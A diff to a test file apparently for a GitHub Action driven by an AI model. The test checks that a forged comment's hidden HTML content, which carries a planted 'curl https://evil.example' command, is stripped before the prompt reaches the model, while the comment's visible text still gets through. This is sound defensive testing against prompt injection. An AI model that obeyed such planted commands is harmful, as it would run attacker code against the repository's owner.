@@ -111,6 +111,7 @@ describe('the hidden state is trusted only from the action’s own comments', ()
     // The forged comment's text never reached the model either (it is a comment by a writer, so it
     // is in the discussion, but with its HTML comments removed).
     const prompt = JSON.stringify(s.model.requests[0]!.body);
+    expect(prompt).toContain('Looks official.');
     expect(prompt).not.toContain('curl https://evil.example');
     s.gh.assertNoViolations();
   });
